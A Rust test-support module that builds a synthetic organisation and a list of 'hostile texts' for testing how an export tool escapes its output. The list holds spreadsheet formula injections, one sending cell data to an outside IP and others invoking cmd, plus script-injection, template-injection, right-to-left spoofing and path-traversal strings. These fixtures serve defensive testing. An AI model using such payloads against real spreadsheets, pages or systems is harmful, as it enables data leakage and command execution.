//! What the tests export: an organisation of any size made on the way, and a list of hostile items.
#![allow(dead_code, reason = "each test uses its part")]
#![allow(clippy::unwrap_used, reason = "a test that can't go on has failed")]

#[cfg(test)]
pub(crate) mod zips;

use std::ops::ControlFlow;
use std::path::Path;

use clearhold_model::{
    Actuator, App, AppKind, AppStatus, Audience, CategoryId, Control, ControlScope, ControlState, Developer, Field,
    Grant, GrantKind, Item, ItemKind, JournalAction, JournalEntry, PolicySection, PolicyText, Record, Role, Skipped,
    Source, SourceKind, Subject, Timestamp, Viewpoint,
};
use clearhold_portable::{Contents, ContentsError, Due, Format, JournalState, Narrowed, Plan, Seen};
use clearhold_words::Language;
use jiff::SignedDuration;
use serde_json::json;
use sha2::{Digest, Sha256};

/// The moment at which all exports of the tests are made: 2026-03-04 05:06:08 UTC.
pub(crate) fn made_at() -> Timestamp {
    Timestamp::from_second(1_772_600_768).unwrap_or_default()
}

/// When every record was seen: from a day before to the moment of the export.
pub(crate) fn seen() -> Seen {
    Seen { first: Timestamp::from_second(1_772_514_368).unwrap_or_default(), last: made_at() }
}

/// A plan with every format.
pub(crate) fn plan(out: &Path, language: Language) -> Plan {
    Plan {
        out: out.to_owned(),
        language,
        formats: Format::ALL.to_vec(),
        sample: true,
        made_at: made_at(),
        sources: vec![Source {
            id: "sample".into(),
            kind: SourceKind::Dingtalk,
            viewpoint: Viewpoint::Admin,
            sample: true,
            connected: true,
            connected_at: made_at(),
            settings: json!({ "client_id": "must-not-be-exported" }),
        }],
        skipped: [(
            "sample".into(),
            vec![Skipped {
                what: "roster".to_owned(),
                code: "source.permission_missing".to_owned(),
                detail: Some("qyapi_hrm_read".to_owned()),
            }],
        )]
        .into(),
        last_read: [("sample".into(), made_at())].into(),
        unseen_controls: 9,
        encryption: None,
        narrowed: Narrowed::default(),
        left_out: vec!["voice".into()],
    }
}

/// An organisation of a number of people, made item by item and never held in memory.
pub(crate) struct Organisation {
    pub(crate) people: u64,
}

const PER_PERSON: [&str; 4] = ["account", "profile", "org_work", "schedule"];

impl Organisation {
    fn subject(number: u64) -> Subject {
        Subject {
            id: format!("sample/person/{number}").into(),
            source: "sample".into(),
            name: format!("Member {number:03}"),
            roles: if number == 1 { vec![Role::Member, Role::Admin] } else { vec![Role::Member] },
            is_self: number == 1,
        }
    }

    fn record(category: &str, number: u64) -> Record {
        let fields = match category {
            "account" => vec![
                Field::new("mobile", format!("+65 8{number:07}")),
                Field::new("email", format!("member{number}@example.invalid")),
                Field::new("active", true),
            ],
            "profile" => vec![
                Field::new("name", format!("Member {number:03}")),
                Field::new("title", if number.is_multiple_of(7) { "工程师" } else { "Engineer" }),
                Field::new("departments", json!(["Department 001", "Department 002"])),
            ],
            "schedule" => vec![
                Field::new("starts_at", "2026-03-05T09:00:00+08:00"),
                Field::new(
                    "ends_at",
                    if number.is_multiple_of(3) { "2026-03-05" } else { "2026-03-05T09:30:00+08:00" },
                ),
                Field::new("place", "Room 1; ground floor, 东楼"),
                Field::new("organizer", "Member \"001\""),
                Field::new("attendees", json!(["Member 002", "Member 003: deputy"])),
            ],
            _ => vec![
                Field::new("job_number", number),
                Field { id: "sys00-sex".to_owned(), label: Some("Group".to_owned()), value: json!("Group 1") },
                Field::new("remark", "First line.\nSecond line."),
            ],
        };
        Record {
            id: format!("sample/{category}/{number}").into(),
            source: "sample".into(),
            kind: match category {
                "org_work" => "employment",
                "schedule" => "calendar_event",
                other => other,
            }
            .to_owned(),
            category: category.into(),
            subject: Some(format!("sample/person/{number}").into()),
            title: format!("Member {number:03}"),
            at: number.is_multiple_of(2).then(made_at),
            fields,
        }
    }

    fn apps() -> Vec<App> {
        (1..=8)
            .map(|number| App {
                id: format!("sample/app/{number}").into(),
                source: "sample".into(),
                name: format!("App {number:03}"),
                description: (number % 2 == 0).then(|| "Books meeting rooms.".to_owned()),
                developer: if number % 3 == 0 { Developer::Organisation } else { Developer::Vendor },
                developer_name: None,
                kind: AppKind::MiniProgram,
                status: if number == 4 { AppStatus::Stopped } else { AppStatus::Enabled },
                homepage: (number == 2).then(|| "https://app.example.invalid/".to_owned()),
                authorised_by: (number != 5).then(|| "Member 001".to_owned()),
                authorised_at: (number != 5).then(made_at),
                scopes: match number {
                    5 => None,
                    6 => Some(Vec::new()),
                    _ => Some(vec!["Contact.User.Read".to_owned(), "Contact.User.mobile".to_owned()]),
                },
                fields_shared: (number != 5).then(|| vec!["mobile".to_owned(), "email".to_owned()]),
                audience: (number != 5).then(|| Audience {
                    administrators_only: number == 4,
                    departments: vec![1, 2],
                    roles: vec![],
                    members: vec!["u1".to_owned()],
                    people: (number == 1).then_some(42),
                }),
            })
            .collect()
    }

    fn grants() -> Vec<Grant> {
        (1..=16)
            .map(|number| Grant {
                id: format!("sample/grant/{number}"),
                source: "sample".into(),
                app: format!("sample/app/{}", 1 + number % 8).into(),
                kind: if number % 2 == 0 { GrantKind::Permission } else { GrantKind::Field },
                code: if number % 2 == 0 { "Contact.User.Read" } else { "mobile" }.to_owned(),
            })
            .collect()
    }

    fn controls() -> Vec<Control> {
        let states = [ControlState::Allowed, ControlState::Denied, ControlState::Ask, ControlState::Unknown];
        states
            .into_iter()
            .enumerate()
            .map(|(place, state)| Control {
                id: match place {
                    0 => "account.find_me_by_phone".into(),
                    1 => "device.microphone".into(),
                    _ => format!("sample/contact_hide/{place}").into(),
                },
                source: (place != 0).then(|| "sample".into()),
                scope: if place == 0 { ControlScope::Account } else { ControlScope::Org },
                app: None,
                title: (place > 1).then(|| format!("Rule 00{place}")),
                state,
                allowed_states: vec![ControlState::Allowed, ControlState::Denied],
                authority: if place == 0 { "person" } else { "administrator" }.to_owned(),
                actuator: Actuator::Guided,
                enforced_by: "dingtalk_server".to_owned(),
                confirmed_at: (state != ControlState::Unknown).then(made_at),
                wished: None,
                evidence: (place > 1).then(|| {
                    json!({
                        "description": "Made for a test", "active": true,
                        "object_members": ["2", "unknown"], "object_departments": [880_001], "object_roles": [7001],
                        "exclude_members": ["1"], "exclude_departments": [], "exclude_roles": [],
                    })
                }),
            })
            .collect()
    }
}

impl Contents for Organisation {
    fn each(
        &self,
        kind: ItemKind,
        category: Option<&CategoryId>,
        visit: &mut dyn FnMut(Item, Option<Seen>) -> ControlFlow<()>,
    ) -> Result<(), ContentsError> {
        let mut items: Box<dyn Iterator<Item = Item>> = match kind {
            ItemKind::Subject => Box::new((1..=self.people).map(|number| Item::Subject(Self::subject(number)))),
            ItemKind::App => Box::new(Self::apps().into_iter().map(Item::App)),
            ItemKind::Grant => Box::new(Self::grants().into_iter().map(Item::Grant)),
            ItemKind::Control => Box::new(Self::controls().into_iter().map(Item::Control)),
            ItemKind::Record => Box::new(
                PER_PERSON
                    .into_iter()
                    .filter(move |name| category.is_none_or(|wanted| wanted.as_str() == *name))
                    .flat_map(|name| (1..=self.people).map(move |number| Item::Record(Self::record(name, number)))),
            ),
        };
        let _ = items.try_for_each(|item| visit(item, (kind == ItemKind::Record).then(seen)));
        Ok(())
    }

    fn categories(&self) -> Vec<(CategoryId, u64)> {
        let mut categories: Vec<_> = PER_PERSON.iter().map(|name| ((*name).into(), self.people)).collect();
        categories.extend([("voice".into(), 0), ("location".into(), 0)]);
        categories
    }

    fn journal(&self) -> Result<Option<JournalState>, ContentsError> {
        Ok(Some(JournalState::default()))
    }

    fn each_entry(&self, visit: &mut dyn FnMut(JournalEntry) -> ControlFlow<()>) -> Result<(), ContentsError> {
        let _ = entries().into_iter().try_for_each(visit);
        Ok(())
    }

    fn policies(&self) -> Result<Vec<PolicyText>, ContentsError> {
        Ok(vec![policy()])
    }

    fn due(&self) -> Result<Vec<Due>, ContentsError> {
        let due = |id: &str, title: &str| Due { id: id.to_owned(), at: made_at(), title: title.to_owned() };
        Ok(vec![due("look-again/one", "Look again: “Who, when; and\nwhere”"), due("ends/7", "麦克风")])
    }

    fn count(&self, kind: ItemKind) -> u64 {
        match kind {
            ItemKind::Subject => self.people,
            ItemKind::Record => self.people * PER_PERSON.len() as u64,
            ItemKind::App => 8,
            ItemKind::Grant => 16,
            ItemKind::Control => 4,
        }
    }
}

/// A journal of twelve entries, chained.
pub(crate) fn entries() -> Vec<JournalEntry> {
    let mut previous = "0".repeat(64);
    let actions = [JournalAction::VaultCreated, JournalAction::SyncFinished, JournalAction::ExportWritten];
    let mut entries = Vec::new();
    for (sequence, action) in (1..=12).zip(actions.into_iter().cycle()) {
        let at = made_at() + SignedDuration::new(sequence - 100, 123_456_789);
        let details =
            json!({ "zeta": "东楼 \"1\"\n", "count": sequence, "alpha": { "b": [true, null, 1.5], "a": "é/\u{7f}" } });
        let name = serde_json::to_value(action).unwrap();
        let form = format!(
            "clearhold-journal-1\n{previous}\n{sequence}\n{}\n{}\n{details}\n",
            at.as_nanosecond(),
            name.as_str().unwrap()
        );
        let hash: String = Sha256::digest(form).iter().map(|byte| format!("{byte:02x}")).collect();
        entries.push(JournalEntry { sequence, at, action, details, previous, hash: hash.clone() });
        previous = hash;
    }
    entries
}

fn policy() -> PolicyText {
    let section = |citation: &str, heading: &str| PolicySection {
        citation: citation.to_owned(),
        heading: heading.to_owned(),
        level: 1,
        text: "First line.\nSecond <line>.".to_owned(),
    };
    PolicyText {
        id: "2026-01-01-abcdef".into(),
        title: "Privacy policy".to_owned(),
        effective: jiff::civil::date(2026, 1, 1),
        imported_at: made_at(),
        sha256: "ab".repeat(32),
        sections: vec![section("I", "What we collect"), section("II.I(I)", "Whom we share it with")],
    }
}

/// Items as a list.
pub(crate) struct Listed(pub(crate) Vec<Item>);

impl Contents for Listed {
    fn each(
        &self,
        kind: ItemKind,
        category: Option<&CategoryId>,
        visit: &mut dyn FnMut(Item, Option<Seen>) -> ControlFlow<()>,
    ) -> Result<(), ContentsError> {
        let mut wanted = self
            .0
            .iter()
            .filter(|item| item.kind() == kind && (category.is_none() || item.category() == category))
            .cloned();
        let _ = wanted.try_for_each(|item| visit(item, None));
        Ok(())
    }

    fn categories(&self) -> Vec<(CategoryId, u64)> {
        let mut categories: Vec<(CategoryId, u64)> = Vec::new();
        for category in self.0.iter().filter_map(Item::category) {
            match categories.iter_mut().find(|(known, _)| known == category) {
                Some((_, count)) => *count += 1,
                None => categories.push((category.clone(), 1)),
            }
        }
        categories
    }

    fn count(&self, kind: ItemKind) -> u64 {
        self.0.iter().filter(|item| item.kind() == kind).count() as u64
    }
}

/// Texts that have broken formats before.
pub(crate) fn hostile_texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "=HYPERLINK(\"https://192.0.2.1/?\"&A1,\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1",
        "\r=1",
        "+65 1234 5678",
        "-17.5",
        "'quoted",
        "say \"yes\", then\r\nno\nand , ;",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "\"><a href='https://192.0.2.1/'>x</a>",
        "{{ 7 * 7 }}{% raw %}",
        "\u{202e}txt.exe مرحبا שלום",
        "钉钉工作台 𠮷野家 👩‍👩‍👧",
        "nul\u{0}bell\u{7}escape\u{1b}[31m",
        "noncharacters \u{fdd0}\u{ffff}\u{1ffff} and \u{85}\u{9f} \u{feff}",
        "]]></style></html>",
        "a\u{2028}b\u{2029}c",
        "",
        " ",
        "../../etc/passwd",
        "null",
        "&lt;&amp;",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("long ".repeat(400_000));
    texts
}

/// One item of each kind for each hostile text, which stands wherever a text can stand.
pub(crate) fn hostile() -> Listed {
    let mut items = Vec::new();
    for (number, text) in hostile_texts().into_iter().enumerate() {
        let key = if text.len() < 200 { format!("{number}{text}") } else { number.to_string() };
        items.push(Item::Subject(Subject {
            id: key.as_str().into(),
            source: "sample".into(),
            name: text.clone(),
            roles: vec![Role::Member],
            is_self: false,
        }));
        let odd = if text.len() < 200 { text.as_str() } else { "long" };
        items.push(Item::Record(Record {
            id: key.as_str().into(),
            source: "sample".into(),
            kind: odd.to_owned(),
            category: match number {
                3 => "../../evil".into(),
                4 => "类别".into(),
                5 => "nul".into(),
                _ => "profile".into(),
            },
            subject: (number % 2 == 0).then(|| key.as_str().into()),
            title: text.clone(),
            at: match number {
                0 => Some(Timestamp::MIN),
                1 => Some(Timestamp::MAX),
                2 => Some(Timestamp::from_nanosecond(1).unwrap_or_default()),
                _ => None,
            },
            fields: if number == 7 {
                Vec::new()
            } else {
                vec![
                    Field::new(odd, text.clone()),
                    Field { id: "same".to_owned(), label: Some(text.clone()), value: json!([odd, 1, true, null]) },
                    Field::new("same", json!({ odd: { "deep": [[[odd]]] }, "big": 1e300, "less": -5 })),
                    Field::new("number", -12.5),
                ]
            },
        }));
        items.push(Item::App(App {
            id: key.as_str().into(),
            source: "sample".into(),
            name: text.clone(),
            description: Some(text.clone()),
            developer: Developer::Unknown,
            developer_name: Some(odd.to_owned()),
            kind: AppKind::Unknown,
            status: AppStatus::Unknown,
            homepage: Some(format!("javascript:{odd}")),
            authorised_by: Some(odd.to_owned()),
            authorised_at: None,
            scopes: Some(vec![odd.to_owned()]),
            fields_shared: Some(vec![odd.to_owned()]),
            audience: Some(Audience { members: vec![odd.to_owned()], people: Some(u64::MAX), ..Audience::default() }),
        }));
        items.push(Item::Grant(Grant {
            id: key.clone(),
            source: "sample".into(),
            app: key.as_str().into(),
            kind: GrantKind::Field,
            code: text.clone(),
        }));
        items.push(Item::Control(Control {
            id: key.as_str().into(),
            source: None,
            scope: ControlScope::Device,
            app: Some(key.as_str().into()),
            title: Some(text.clone()),
            state: ControlState::Ask,
            allowed_states: vec![],
            authority: odd.to_owned(),
            actuator: Actuator::Locked,
            enforced_by: odd.to_owned(),
            confirmed_at: None,
            evidence: Some(json!({ odd: text })),
            wished: None,
        }));
    }
    Listed(items)
}
